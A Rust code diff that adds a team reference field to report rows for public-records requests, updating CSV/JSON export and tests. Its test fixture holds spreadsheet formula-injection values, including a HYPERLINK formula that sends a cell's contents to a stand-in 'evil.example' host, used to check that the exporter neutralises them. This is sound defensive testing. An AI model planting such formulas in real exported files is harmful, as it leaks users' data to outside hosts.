@@ -16,6 +16,9 @@ use serde::{Deserialize, Serialize};
 pub struct ReportRow {
     pub id: i64,
     pub uid: String,
+    /// The request's team reference (`K7Q2MX`), the same on every laptop of a team; None
+    /// outside a team.
+    pub team_ref: Option<String>,
     /// The agency's slug, e.g. `mecklenburg-so-nc`.
     pub agency: String,
     pub agency_name: String,
@@ -70,6 +73,7 @@ pub struct ReportRow {
 pub struct ReportRef<'a> {
     pub id: i64,
     pub uid: &'a str,
+    pub team_ref: Option<&'a str>,
     pub agency: &'a str,
     pub agency_name: &'a str,
     pub state: &'a str,
@@ -105,6 +109,7 @@ impl ReportRef<'_> {
         ReportRow {
             id: self.id,
             uid: self.uid.to_string(),
+            team_ref: owned(self.team_ref),
             agency: self.agency.to_string(),
             agency_name: self.agency_name.to_string(),
             state: self.state.to_string(),
@@ -167,6 +172,7 @@ impl ReportRow {
         ReportRef {
             id: self.id,
             uid: &self.uid,
+            team_ref: self.team_ref.as_deref(),
             agency: &self.agency,
             agency_name: &self.agency_name,
             state: &self.state,
@@ -228,6 +234,7 @@ enum Kind {
 const CSV_COLUMNS: &[(&str, Kind)] = &[
     ("id", Kind::Number),
     ("uid", Kind::Text),
+    ("team_ref", Kind::Text),
     ("agency", Kind::Text),
     ("agency_name", Kind::Text),
     ("state", Kind::Text),
@@ -303,6 +310,7 @@ fn push_csv_cells(r: &ReportRef<'_>, out: &mut String, ends: &mut Vec<usize>) {
     crate::render::push_int(out, r.id);
     ends.push(out.len());
     text(out, ends, Some(r.uid));
+    text(out, ends, r.team_ref);
     text(out, ends, Some(r.agency));
     text(out, ends, Some(r.agency_name));
     text(out, ends, Some(r.state));
@@ -817,6 +825,7 @@ pub(crate) fn sample_rows() -> Vec<ReportRow> {
         ReportRow {
             id: 1,
             uid: "01937a4e-0000-7000-8000-000000000001".into(),
+            team_ref: Some("K7Q2MX".into()),
             agency: "mecklenburg-so-nc".into(),
             agency_name: "Mecklenburg County Sheriff's Office".into(),
             state: "NC".into(),
@@ -847,6 +856,7 @@ pub(crate) fn sample_rows() -> Vec<ReportRow> {
         ReportRow {
             id: 2,
             uid: "01937a4e-0000-7000-8000-000000000002".into(),
+            team_ref: None,
             agency: "harris-so-tx".into(),
             agency_name: "Harris County Sheriff's Office".into(),
             state: "TX".into(),
@@ -877,6 +887,7 @@ pub(crate) fn sample_rows() -> Vec<ReportRow> {
         ReportRow {
             id: 3,
             uid: "01937a4e-0000-7000-8000-000000000003".into(),
+            team_ref: None,
             agency: "cobb-so-ga".into(),
             agency_name: "Cobb County Sheriff's Office".into(),
             state: "GA".into(),
@@ -907,6 +918,7 @@ pub(crate) fn sample_rows() -> Vec<ReportRow> {
         ReportRow {
             id: 4,
             uid: "01937a4e-0000-7000-8000-000000000004".into(),
+            team_ref: None,
             agency: "lee-so-fl".into(),
             agency_name: "Lee County Sheriff's Office".into(),
             state: "FL".into(),
@@ -968,6 +980,7 @@ mod tests {
         ReportRow {
             id: -1,
             uid: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
+            team_ref: Some("-K7Q2M".into()),
             agency: "+1".into(),
             agency_name: "-x".into(),
             state: "@SUM(A1:A9)".into(),
@@ -1013,6 +1026,7 @@ mod tests {
         vec![
             r.id.to_string(),
             r.uid.clone(),
+            opt_str(&r.team_ref),
             r.agency.clone(),
             r.agency_name.clone(),
             r.state.clone(),
@@ -1114,6 +1128,7 @@ mod tests {
         let expected: &[(&str, &str)] = &[
             ("id", "-1"),
             ("uid", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+            ("team_ref", "'-K7Q2M"),
             ("agency", "'+1"),
             ("agency_name", "'-x"),
             ("state", "'@SUM(A1:A9)"),
@@ -1157,7 +1172,7 @@ mod tests {
         let text = to_csv(&[hostile_row()]);
         // Header + one record, each ended by CRLF; bare LFs only inside quoted cells.
         assert!(text.ends_with("\r\n"));
-        assert!(text.starts_with("id,uid,agency,agency_name,state,batch,title,"));
+        assert!(text.starts_with("id,uid,team_ref,agency,agency_name,state,batch,title,"));
         assert!(text.contains(",\"a, b\","));
         assert!(text.contains(",\"say \"\"hi\"\"\","));
         assert!(text.contains(",-3,-5,,-2,"));
@@ -1173,13 +1188,14 @@ mod tests {
         assert_eq!(parsed.len(), 4);
         for (row, cells) in rows.iter().zip(&parsed) {
             assert_eq!(cells[0], row.id.to_string());
-            assert_eq!(cells[3], row.agency_name);
-            assert_eq!(cells[6], row.title);
-            assert_eq!(cells[9], opt_date(row.filed_on));
+            assert_eq!(cells[2], row.team_ref.clone().unwrap_or_default());
+            assert_eq!(cells[4], row.agency_name);
+            assert_eq!(cells[7], row.title);
+            assert_eq!(cells[10], opt_date(row.filed_on));
         }
         // The formula in row 3's tracking number is neutralised.
-        assert_eq!(parsed[2][18], "'=HYPERLINK(\"http://x\")");
-        assert_eq!(parsed[0][19], "1250.50");
+        assert_eq!(parsed[2][19], "'=HYPERLINK(\"http://x\")");
+        assert_eq!(parsed[0][20], "1250.50");
     }
 
     #[test]
@@ -1206,7 +1222,7 @@ mod tests {
         let text = to_csv(&[]);
         assert_eq!(text.matches("\r\n").count(), 1);
         let (headers, rows) = read_csv(&text);
-        assert_eq!(headers.len(), 28);
+        assert_eq!(headers.len(), 29);
         assert!(rows.is_empty());
     }
 
@@ -1275,8 +1291,10 @@ mod tests {
         assert_eq!(first["fees_requested"], 1250.5);
         assert!(first["fees_paid"].is_f64());
         assert_eq!(first["citation"], "N.C. Gen. Stat. § 132-6");
+        assert_eq!(first["team_ref"], "K7Q2MX");
         let draft = &arr[3];
         for key in [
+            "team_ref",
             "batch",
             "filed_on",
             "due_on",
@@ -1296,7 +1314,7 @@ mod tests {
         ] {
             assert!(draft[key].is_null(), "{key} should be null");
         }
-        assert_eq!(draft.as_object().map(|o| o.len()), Some(28));
+        assert_eq!(draft.as_object().map(|o| o.len()), Some(29));
         // And it reads back into the same rows.
         let back: Vec<ReportRow> = serde_json::from_str(&text).expect("rows");
         assert_eq!(back, rows);
